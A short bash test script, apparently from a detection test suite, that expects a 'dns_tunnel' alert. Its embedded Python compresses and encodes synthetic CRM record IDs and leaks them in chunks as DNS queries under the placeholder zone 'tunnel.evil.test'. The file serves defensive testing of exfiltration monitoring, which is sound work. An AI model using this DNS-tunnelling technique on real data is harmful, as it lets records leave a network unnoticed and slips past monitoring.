#!/bin/bash
# title: CRM record ids tunnelled out in DNS queries under the attacker's zone
# expect-monitor: dns_tunnel
# expect-enforce: dns_tunnel
# block: none
source "$(dirname "$0")/../lib.sh"
echo T0=$(now_ms)
in_cgroup inference $PY -c '
import base64, socket, zlib
ids = ["0035g%010dAAA" % i for i in range(40)]
blob = base64.b32encode(zlib.compress(",".join(ids).encode())).decode().rstrip("=").lower()
n = 0
for i in range(0, len(blob), 50):
    name = "%s.%d.tunnel.evil.test" % (blob[i:i + 50], n)
    try:
        socket.gethostbyname(name)
    except OSError:
        pass
    n += 1
print("sent %d queries" % n)'
